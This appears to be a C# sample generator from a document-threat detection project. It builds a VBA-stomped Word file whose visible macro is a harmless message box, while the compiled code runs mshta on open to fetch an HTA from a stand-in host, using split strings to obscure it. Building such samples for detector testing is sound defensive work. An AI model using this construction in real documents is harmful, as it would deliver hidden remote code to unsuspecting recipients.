using Lurewatch.Samples.Office;

namespace Lurewatch.Samples.Documents;

/// <summary>Documents whose VBA source shows something else than what runs.</summary>
internal static class StompedDocuments
{
    public static IEnumerable<DocumentSample> All() => [Replaced()];

    private static DocumentSample Replaced()
    {
        const string Url = "http://one.example/update/stage.hta";
        var project = new VbaProjectWriter()
            .Add("ThisDocument", "Private Sub Document_Open()\n    MsgBox \"This document was made by a newer version.\"\nEnd Sub\n", VbaModuleKind.Document)
            .Compile("ThisDocument", code => code
                .Sub("Document_Open")
                .Text("WScript.").Text("Shell").Concat().Function("CreateObject", 1).Set("host")
                .Text("mshta ").Text("http://one.exam").Concat().Text("ple/update/stage.hta").Concat().Integer(0).Load("host").Method("Run", 2)
                .EndSub());
        return new("stomped.doc", "2018 to 2021, documents made with EvilClippy: the source in the file is harmless, the compiled code starts mshta.",
            new WordBinary { Text = "Enable content\r", Streams = project.Streams("Macros/") }.ToBytes(), Url);
    }
}
